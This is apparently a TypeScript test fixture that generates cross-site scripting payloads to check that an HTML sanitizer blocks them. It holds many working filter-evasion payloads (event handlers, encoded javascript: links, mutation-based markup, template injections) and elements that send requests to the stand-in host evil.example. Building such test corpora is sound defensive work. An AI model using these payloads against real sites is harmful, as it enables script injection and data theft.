/** Name of the function that a payload calls when it runs; the page of a test defines it. */
export const canary = '__xss';

/** The site that payloads send requests to; it must never receive one. */
export const evilOrigin = 'https://evil.example';

/** Scripts that call the canary, written in ways that a word filter misses. */
const calls = [
  `${canary}(1)`,
  `window['${canary}'](1)`,
  `top[\`${canary}\`]\`1\``,
  `self['\\x5f\\x5fxss'](1)`,
  `(0,eval)(atob('${btoa(`${canary}(1)`)}'))`,
  `new Image().src='${evilOrigin}/c'`,
];
const [call = ''] = calls;

/** Writes every letter as a character reference: decimal and hexadecimal, with and without semicolon. */
const spelt = [
  (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join(''),
  (text: string) => [...text].map((letter) => `&#0000${letter.codePointAt(0)}`).join(''),
];

/** Elements that act when they are inserted, with the attribute that holds the script or URL. */
const selfActing: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT type=module>${js}</SCRIPT >`,
  (js) => `<script/x>${js}</script/x>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img/src=x/onerror="${js}">`,
  (js) => `<img src=x\nonerror\n=\n"${js}"\n>`,
  (js) => `<IMG """><script>${js}</script>">`,
  (js) => `<image src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  (js) => `<svg><set attributeName=onmouseover to="${js}"></svg>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  (js) => `<body onload="${js}">`,
  (js) => `<iframe onload="${js}"></iframe>`,
  (js) => `<iframe srcdoc='<script>top.${js}</script>'></iframe>`,
  (js) => `<iframe src="javascript:top.${js}"></iframe>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror="${js}"></audio>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<marquee onstart="${js}">x</marquee>`,
  (js) => `<style onload="${js}"></style>`,
  (js) => `<link rel=stylesheet href=data:text/css, onload="${js}">`,
  (js) => `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript>`,
  (js) => `<template><img src=x onerror="${js}"></template>`,
  (js) => `<textarea></textarea><img src=x onerror="${js}">`,
  (js) => `<title></title><img src=x onerror="${js}">`,
  (js) => `<!--><img src=x onerror="${js}">-->`,
  (js) => `<!-- --!><img src=x onerror="${js}"> -->`,
  (js) => `<![CDATA[><img src=x onerror="${js}">]]>`,
  (js) => `<?x ><img src=x onerror="${js}">`,
  (js) => `<p><style></p><img src=x onerror="${js}"></style>`,
  (js) => `<select><style></select><img src=x onerror="${js}"></style>`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${js}">`,
  (js) => `<a href="/x" title='<img src=x onerror="${js}">'>x</a>`,
  (js) => `<p title="<img src=x onerror='${js}'>">x</p>`,
  (js) => `<<img src=x onerror="${js}">`,
  (js) => `<p <img src=x onerror="${js}">>`,
  (js) => `<img src=x onerror="${js}"`,
  (js) => `<x onclick="${js}" style="animation:x 1s" onanimationstart="${js}">x</x>`,
];

/** Allowed elements with a forbidden event handler that runs at once. */
const allowed = ['p', 'strong', 'em', 'b', 'i', 'ul', 'li', 'h3', 'a', 'br'];
const handlers = ['onfocus', 'onfocusin', 'onpointerrawupdate', 'onbeforetoggle', 'onanimationstart', 'onscrollend'];

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'java\0script:'],
  ...[
    'javascript&colon;',
    'javascript&#58;',
    '&#1;javascript:',
    '\u2028javascript:',
    '&Tab;javascript:',
    'data:text/html,',
  ],
  ...[
    'vbscript:',
    'view-source:javascript:',
    'x-javascript:',
    'jar:javascript:',
    'feed:javascript:',
    'https:javascript:',
  ],
];
const links: readonly ((href: string) => string)[] = [
  (href) => `<a href="${href}">x</a>`,
  (href) => `<a href='${href}'>x</a>`,
  (href) => `<A HREF=${href}>x</A>`,
  (href) => `<a title=x href="${href}" href="/terms">x</a>`,
  (href) => `<a href="/terms" xlink:href="${href}">x</a>`,
  (href) => `<svg><a xlink:href="${href}"><text>x</text></a></svg>`,
  (href) => `<form action="${href}"><button>x</button></form>`,
  (href) => `<button formaction="${href}">x</button>`,
  (href) => `<base href="${href}">`,
  (href) => `<meta http-equiv=refresh content="0;url=${href}">`,
];

const outward = [
  `<img src="${evilOrigin}/c">`,
  `<p style="background:url(${evilOrigin}/c)">x</p>`,
  `<style>@import '${evilOrigin}/c';</style>`,
  `<link rel=prefetch href="${evilOrigin}/c">`,
  `<video poster="${evilOrigin}/c"></video>`,
  `<iframe src="${evilOrigin}/c"></iframe>`,
  `<object data="${evilOrigin}/c"></object>`,
  `<input type=image src="${evilOrigin}/c">`,
  `<svg><image href="${evilOrigin}/c"/></svg>`,
  `<a href="/x" ping="${evilOrigin}/c">x</a>`,
  `<table background="${evilOrigin}/c"><tr><td>x</table>`,
  `<meta http-equiv=refresh content="0;url=${evilOrigin}/c">`,
];

/** Expressions of template languages, including the portal's own. */
const templates = ['{{', '${', '<%=', '#{', '{%', '[[', '$t('].flatMap((open) => [
  `${open}constructor.constructor('${call}')()`,
  `${open} ${call} }}`,
]);

/** Generated HTML that would run a script or send a request if a page trusted it. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...selfActing.flatMap((element) => calls.map(element)),
    ...selfActing.flatMap((element) => spelt.map((spell) => element(spell(call)))),
    ...allowed.flatMap((tag) =>
      handlers.map((handler) => `<${tag} tabindex=0 autofocus ${handler}="${call}">x</${tag}>`),
    ),
    ...schemes.flatMap((scheme) => links.map((link) => link(scheme + call))),
    ...outward,
    ...templates,
  ]),
];
